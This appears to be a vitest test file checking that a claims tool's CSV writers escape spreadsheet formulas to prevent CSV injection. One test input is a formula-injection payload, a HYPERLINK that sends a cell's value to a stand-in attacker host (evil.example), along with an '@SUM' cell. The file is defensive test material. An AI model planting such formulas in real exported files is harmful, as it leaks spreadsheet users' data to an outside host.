/**
 * CSV files a spreadsheet opens never carry a formula taken from a claim (CSV injection, CWE-1236): every module of
 * src/ that writes CSV (imports csv-stringify, statically or when it runs) passes its text cells through src/render/spreadsheet.ts, and the
 * supplier solicitation list, whose suppliers and descriptions come from the claim, is written with them escaped.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeSolicitation, type Solicitation } from '../../src/advise/solicit.js';

const SRC = join(import.meta.dirname, '../../src');

describe('CSV cells from claims are text, never formulas', () => {
  const writers = readdirSync(SRC, { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.ts') && /['"]csv-stringify/.test(readFileSync(join(SRC, f), 'utf8')))
    .sort();

  it('finds the CSV writers (sanity: the solicitation list, filing, reconcile, impact, content)', () => {
    expect(writers).toEqual(
      expect.arrayContaining(['advise/solicit.ts', 'cli/filing.ts', 'cli/impact.ts', 'cli/reconcile.ts']),
    );
  });

  for (const file of writers)
    it(`src/${file} writes its rows through spreadsheetRow or spreadsheetText`, () => {
      expect(readFileSync(join(SRC, file), 'utf8')).toMatch(
        /import \{[^}]*\bspreadsheet(Row|Text)\b[^}]*\} from '[./]*render\/spreadsheet\.js'/,
      );
    });

  it('writes a supplier or description that starts like a formula with a leading apostrophe', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")';
    const s: Solicitation = {
      claim: 'C-1',
      currency: 'USD',
      verdict: 'not-originating',
      settledBy: 'not-possible-with-evidence-alone',
      groups: [
        {
          rank: 1,
          supplier: formula,
          settles: false,
          valueAtStake: '-12.50',
          items: [
            {
              code: 'ORIGIN_UNKNOWN',
              subject: 'SEAT',
              request: 'a certification of origin',
              description: '@SUM(A1)',
              valueAtStake: '-12.50',
            },
          ],
        },
      ],
    } as Solicitation;
    let written = '';
    await writeSolicitation(s, 'list.csv', (_f, data) => (written = String(data)));
    expect(written).toContain(`'=HYPERLINK`);
    expect(written).toContain(`'@SUM(A1)`);
    expect(written).toContain(',-12.50,'); // a decimal is no formula: written as it is
    expect(written).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
